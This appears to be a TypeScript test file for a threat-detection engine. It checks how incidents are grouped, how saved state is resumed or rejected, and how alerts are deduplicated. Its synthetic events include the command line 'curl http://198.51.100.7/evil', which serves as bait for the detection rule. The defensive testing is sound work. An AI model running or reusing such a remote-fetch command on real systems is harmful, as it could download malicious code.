import { deepEqual, equal } from 'node:assert/strict'
import { test } from 'node:test'
import { loadRules } from '@pomona/rules'
import type { EcsEvent } from '@pomona/schema'
import { pino } from 'pino'
import { CONTENT_DIRECTORY } from '../../src/config.ts'
import { loadContent } from '../../src/engine/content.ts'
import { createDetection } from '../../src/engine/detection.ts'
import { execEvent } from '../support/batch.ts'
import { EVIL_RULE } from '../support/server.ts'

const { mapping } = await loadContent(CONTENT_DIRECTORY)
const { rules } = loadRules([{ path: 'evil.yml', text: EVIL_RULE }], { mapping })
const EVENTS = Array.from({ length: 12 }, (_, index) => {
  return execEvent('mac-1', index, {
    commandLine: index % 3 === 0 ? 'curl http://198.51.100.7/evil' : 'ls',
  })
})

function detection(state?: string) {
  const lines: string[] = []
  const logger = pino({ level: 'error' }, { write: (line: string) => lines.push(line) })
  return { ...createDetection(rules, { state, logger }), lines }
}

// The draft is what an event is made of; nothing changes it any more.
const observe = (one: ReturnType<typeof detection>, event: unknown) =>
  one.observe(event as EcsEvent)

test('detection: taken up in the middle, incidents go on', () => {
  const whole = detection()
  for (const event of EVENTS) observe(whole, event)
  const [all] = whole.incidents()
  equal(all?.incident.alert_count, 4)

  const first = detection()
  for (const event of EVENTS.slice(0, 5)) observe(first, event)
  const begun = first.incidents()
  const second = detection(first.save())
  for (const event of EVENTS.slice(5)) observe(second, event)
  const ended = second.incidents()
  deepEqual(ended.at(-1)?.incident, all?.incident)
  deepEqual(
    [...begun, ...ended].flatMap(({ joins }) => joins),
    all?.joins,
  )
})

test('detection: state it cannot read is left behind, and said', () => {
  const other = detection('{"detector":"x","incidents":{"version":0}}')
  equal(observe(other, EVENTS[0]).length, 1)
  deepEqual(
    other.lines.map((line) => /ERR_[A-Z_]+/.exec(line)?.[0]),
    ['ERR_DETECT_CHECKPOINT_FORMAT', 'ERR_INCIDENT_STATE'],
  )
})

test('detection: an alert that the host found too joins its incident once, in either order', () => {
  const found = observe(detection(), EVENTS[0])
  const [alert] = found
  if (alert === undefined) throw new Error('no alert')
  const hostFirst = detection()
  hostFirst.adopt(alert)
  deepEqual(observe(hostFirst, EVENTS[0]), found)
  const serverFirst = detection()
  observe(serverFirst, EVENTS[0])
  const begun = serverFirst.incidents()
  equal(begun[0]?.incident.alert_count, 1)
  const resumed = detection(serverFirst.save())
  resumed.adopt(alert)
  deepEqual(resumed.incidents(), [])
  equal(hostFirst.incidents()[0]?.incident.alert_count, 1)
  const alone = detection()
  alone.adopt(alert)
  equal(alone.incidents()[0]?.joins[0]?.alert_id, alert.id)
})
